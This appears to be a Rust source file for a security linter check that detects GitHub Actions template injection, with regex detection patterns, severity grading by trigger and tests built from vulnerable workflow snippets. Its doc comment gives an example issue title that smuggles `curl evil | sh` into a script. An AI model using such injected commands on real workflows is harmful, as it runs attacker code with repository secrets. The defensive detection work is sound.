//! `ci.no-template-injection`: no attacker-controllable `${{ }}` expression
//! is expanded into a script.
//!
//! Actions substitutes `${{ ... }}` into the text of a `run:` script (or
//! an `actions/github-script` `script:`) before the shell or Node reads it,
//! so an issue title such as `a"; curl evil | sh; "` becomes code. The
//! contexts flagged are those anyone can write: issue, pull request,
//! discussion, comment and review titles and bodies; head branch names
//! (`github.head_ref`, `pull_request.head.ref`, `workflow_run.head_branch`);
//! commit messages and author names; wiki page names; and `toJSON` of the
//! whole event. The same expression in the `with:` of another action is
//! passed as data and is not flagged, nor is one passed through `env:` and
//! read as `"$VAR"`, which is the fix.
//!
//! A pull request's branch, title or body expanded in a workflow that runs
//! only on `pull_request` (besides triggers people with write access
//! start) is medium: GitHub gives a fork's run no secrets and a read-only
//! token, and the fork's author already controls the workflow file, so the
//! expansion is a latent bug, not an open door. Beside `pull_request_target`,
//! `workflow_run`, issue or comment events, and in composite actions and
//! reusable workflows, whose callers are not followed, it stays high.

use std::borrow::Cow;
use std::sync::LazyLock;

use regex::Regex;

use super::{action_repo, graded, is_ci_file, keep_pipeline, parsed, Ci, Sureness};
use crate::checks::{
    finding, Category, Check, CheckContext, CheckError, CheckId, CheckMeta, FileData, Params,
    Severity, Stability,
};
use crate::model::Outcome;
use crate::workspace::{Content, FileEntry};

pub struct NoTemplateInjection;

static META: CheckMeta = CheckMeta {
    id: CheckId::from_static("ci.no-template-injection"),
    title: Cow::Borrowed("No attacker-controlled expression is expanded into a script"),
    category: Category::Security,
    severity: Severity::High,
    profiles: Cow::Borrowed(&[]),
    applies_when: Cow::Borrowed("GitHub Actions workflows or composite actions exist"),
    stability: Stability::Stable,
    summary: Cow::Borrowed("No `${{ github.event...title/body }}`-like expression inside `run:`"),
    rationale: Cow::Borrowed(
        "Expressions are pasted into the script before it runs. Anyone who can open an issue, a pull \
         request or a branch controls titles, bodies and branch names, so an expression like \
         `${{ github.event.issue.title }}` inside `run:` lets them run commands with the job's \
         secrets and token.",
    ),
    remediation: Cow::Borrowed(
        "Pass the value through an environment variable and quote it in the shell:\n\n```yaml\n\
         - env:\n    TITLE: ${{ github.event.issue.title }}\n  run: echo \"$TITLE\"\n```\n\n\
         In `actions/github-script`, read `context.payload` instead of interpolating.",
    ),
    passes_when: Cow::Borrowed(
        "no `run:` script or `actions/github-script` `script:` contains an expression over an \
         attacker-controllable context",
    ),
    params: Cow::Borrowed(&[]),
    references: Cow::Borrowed(&[
        Cow::Borrowed("https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"),
        Cow::Borrowed("https://docs.zizmor.sh/audits/#template-injection"),
    ]),
};

static EXPR: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\$\{\{(.*?)\}\}").expect("static regex"));
static TAINTED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i)github\.event\.(issue|pull_request|discussion)\.(title|body)\b",
        r"|github\.event\.(comment|review|review_comment)\.body\b",
        r"|github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)\b",
        r"|github\.head_ref\b",
        r"|github\.event\.(head_commit|workflow_run\.head_commit|merge_group\.head_commit)\.(message|author\.(name|email)|committer\.(name|email))\b",
        r"|github\.event\.commits(\[[^\]]*\]|\.\*)?\.(message|author\.(name|email))\b",
        r"|github\.event\.workflow_run\.(head_branch|display_title|pull_requests(\[[^\]]*\]|\.\*)?\.head\.ref)\b",
        r"|github\.event\.(check_suite|check_run\.check_suite)\.head_branch\b",
        r"|github\.event\.pages(\[[^\]]*\]|\.\*)?\.page_name\b",
        r"|tojson\(\s*github\.event\s*\)",
    ))
    .expect("static regex")
});

/// The tainted contexts of a line's expressions.
pub(crate) fn tainted(line: &str) -> Vec<String> {
    EXPR.captures_iter(line)
        .filter_map(|c| TAINTED.find(&c[1]).map(|m| m.as_str().to_string()))
        .collect()
}

/// Events that run with the base repository's secrets and write token
/// on input a stranger writes: an expansion there is exploitable.
const PRIVILEGED_EVENTS: &[&str] = &[
    "pull_request_target",
    "workflow_run",
    "issues",
    "issue_comment",
    "discussion",
    "discussion_comment",
    "pull_request_review",
    "pull_request_review_comment",
    "check_run",
    "check_suite",
    "gollum",
];

/// A workflow whose only untrusted trigger is `pull_request`: GitHub runs
/// a fork's pull request with a read-only token and no secrets, and the
/// fork's author controls the workflow file itself. Other triggers
/// (`push`, `schedule`, `workflow_dispatch`) are started by people with
/// write access. Actions and reusable workflows run in their caller's
/// context, which is not followed here.
fn fork_restricted(p: &crate::formats::ci::Pipeline) -> bool {
    p.kind == crate::formats::ci::PipelineKind::Workflow
        && p.has_trigger("pull_request")
        && !PRIVILEGED_EVENTS.iter().any(|e| p.has_trigger(e))
}

/// Contexts a pull request's author sets (its branch, title and body), as
/// opposed to commit messages, which reach privileged `push` runs once
/// merged.
fn is_pull_request_context(ctx: &str) -> bool {
    let c = ctx.to_ascii_lowercase();
    c.starts_with("github.head_ref") || c.starts_with("github.event.pull_request.")
}

impl Check for NoTemplateInjection {
    /// Its findings are hazards; a medium one may be a false alarm
    /// (an expression may not be attacker-controlled).
    fn doubt(&self) -> crate::model::Doubt {
        crate::model::Doubt::Hazard
    }

    fn meta(&self) -> &CheckMeta {
        &META
    }

    fn wants(&self, file: &FileEntry, _: &Params) -> bool {
        is_ci_file(file)
    }

    fn inspect(&self, _: &FileEntry, content: &Content<'_>, _: &Params) -> Option<FileData> {
        keep_pipeline(content)
    }

    fn run(&self, ctx: &CheckContext<'_>) -> Result<Outcome, CheckError> {
        let ci = Ci::of(ctx);
        let mut scripts = 0usize;
        let mut findings = Vec::new();
        for (path, p) in ci.github() {
            let fork_only = fork_restricted(p);
            for job in p.jobs.iter().filter(|j| !j.disabled) {
                for step in job.live_steps() {
                    let mut sinks: Vec<(u32, &str, &str)> = Vec::new();
                    if let Some(run) = &step.run {
                        sinks.extend(run.lines().map(|(n, l)| (n, l, "run:")));
                    }
                    let github_script = step
                        .uses
                        .as_ref()
                        .and_then(|u| action_repo(&u.value))
                        .is_some_and(|r| r == "actions/github-script");
                    let script_kv = step
                        .with
                        .iter()
                        .find(|k| k.key == "script")
                        .filter(|_| github_script);
                    if let Some(kv) = script_kv {
                        sinks.extend(
                            kv.value
                                .lines()
                                .enumerate()
                                .map(|(i, l)| (kv.line + i as u32, l, "github-script")),
                        );
                    }
                    if !sinks.is_empty() {
                        scripts += 1;
                    }
                    for (line, text, sink) in sinks {
                        for ctx_name in tainted(text) {
                            let own_code = fork_only && is_pull_request_context(&ctx_name);
                            let message = if own_code {
                                format!("`${{{{ {ctx_name} }}}}` is expanded into a {sink} script. The workflow runs on `pull_request` only, where a fork's author already controls the code and gets no secrets, so this is a latent bug rather than an open door. Pass it through `env:` and quote the variable")
                            } else {
                                format!("`${{{{ {ctx_name} }}}}` is expanded into a {sink} script; anyone who controls it can run commands. Pass it through `env:` and quote the variable")
                            };
                            findings.push(graded(
                                finding(&META, message)
                                    .rule("template-injection")
                                    .at(path.to_string(), Some(line))
                                    .snippet(text.trim().chars().take(200).collect::<String>())
                                    .matched(&ctx_name),
                                if own_code {
                                    Sureness::Medium
                                } else {
                                    Sureness::High
                                },
                            ));
                        }
                    }
                }
            }
        }
        if scripts == 0 {
            return Ok(Outcome::not_applicable(
                "no `run:` or github-script step in GitHub Actions files",
            ));
        }
        let o = if findings.is_empty() {
            Outcome::pass(format!(
                "{scripts} script step(s), none expands an attacker-controlled expression"
            ))
        } else {
            Outcome::fail(format!(
                "{} attacker-controlled expression(s) inside scripts",
                findings.len()
            ))
        };
        Ok(parsed(o).findings(findings))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::checks::test_support::expect;
    use crate::model::Status;

    #[test]
    fn tainted_contexts() {
        for yes in [
            "echo ${{ github.event.issue.title }}",
            "echo \"${{github.event.pull_request.body}}\"",
            "git push origin ${{ github.head_ref }}",
            "echo ${{ github.event.comment.body }}",
            "echo ${{ github.event.head_commit.message }}",
            "echo ${{ github.event.commits[0].author.email }}",
            "echo ${{ github.event.workflow_run.head_branch }}",
            "echo '${{ toJSON(github.event) }}'",
            "x=${{ github.event.pull_request.head.ref || 'main' }}",
        ] {
            assert!(!tainted(yes).is_empty(), "{yes}");
        }
        for no in [
            "echo ${{ github.event.pull_request.number }}",
            "echo ${{ github.sha }}",
            "echo \"$TITLE\"",
            "echo ${{ github.event.pull_request.head.sha }}",
            "echo github.event.issue.title",
            "echo ${{ inputs.version }}",
        ] {
            assert!(tainted(no).is_empty(), "{no}");
        }
    }

    #[test]
    fn cases() {
        let wf =
            |steps: &str| format!("on: issues\njobs:\n  t:\n    runs-on: x\n    steps:\n{steps}");
        let cases: Vec<(&str, String, Status)> = vec![
            ("run", wf("      - run: |\n          echo hi\n          echo \"${{ github.event.issue.title }}\"\n"), Status::Fail),
            ("github-script", wf("      - uses: actions/github-script@v7\n        with:\n          script: |\n            console.log(\"${{ github.event.comment.body }}\")\n"), Status::Fail),
            ("with of another action", wf("      - uses: some/action@v1\n        with:\n          title: ${{ github.event.issue.title }}\n      - run: echo ok\n"), Status::Pass),
            ("env indirection", wf("      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo \"$TITLE\"\n"), Status::Pass),
            ("disabled", wf("      - run: echo ${{ github.head_ref }}\n        if: false\n      - run: echo ok\n"), Status::Pass),
            // `pull_request` alone: the fork's author controls the code and
            // gets no secrets; a latent bug, partial.
            ("branch name on pull_request", "on: pull_request\njobs:\n  t:\n    runs-on: x\n    steps:\n      - run: echo ${{ github.head_ref }}\n".to_string(), Status::Partial),
            // Near misses: the same beside a privileged trigger, and a commit
            // message, which reaches `push` runs once merged.
            ("branch name on pull_request_target too", "on: [pull_request, pull_request_target]\njobs:\n  t:\n    runs-on: x\n    steps:\n      - run: echo ${{ github.head_ref }}\n".to_string(), Status::Fail),
            ("commit message on pull_request and push", "on: [pull_request, push]\njobs:\n  t:\n    runs-on: x\n    steps:\n      - run: echo \"${{ github.event.head_commit.message }}\"\n".to_string(), Status::Fail),
        ];
        for (name, text, want) in cases {
            expect(
                &NoTemplateInjection,
                name,
                &[(".github/workflows/a.yml", &text)],
                want,
            );
        }
        let o = expect(&NoTemplateInjection, "line", &[(".github/workflows/a.yml", &wf("      - run: |\n          echo hi\n          echo \"${{ github.event.issue.title }}\"\n"))], Status::Fail);
        assert_eq!(o.findings[0].line, Some(8));
        let comp = "runs:\n  using: composite\n  steps:\n    - run: echo ${{ github.event.pull_request.title }}\n      shell: bash\n";
        expect(
            &NoTemplateInjection,
            "composite",
            &[(".github/actions/x/action.yml", comp)],
            Status::Fail,
        );
    }
}
